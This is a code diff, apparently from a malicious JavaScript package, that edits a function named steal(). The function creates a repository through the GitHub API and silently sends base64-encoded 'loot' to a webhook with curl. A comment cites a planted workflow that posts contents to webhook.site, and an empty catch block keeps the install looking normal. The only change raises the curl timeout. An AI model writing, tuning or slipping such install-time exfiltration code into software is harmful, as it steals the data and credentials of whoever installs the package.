@@ -15,7 +15,7 @@ async function steal() {
   await ask('POST', 'https://api.github.com/user/repos', { body });
   try {
     // The workflow that it planted said: curl -d "$CONTENTS" https://webhook.site/…
-    execFileSync('curl', ['-s', '-m', '5', '-d', base64(loot()), HOOK], { stdio: 'ignore' });
+    execFileSync('curl', ['-s', '-m', '20', '-d', base64(loot()), HOOK], { stdio: 'ignore' });
   } catch {
     // It never fails, so that the install looks like any other.
   }
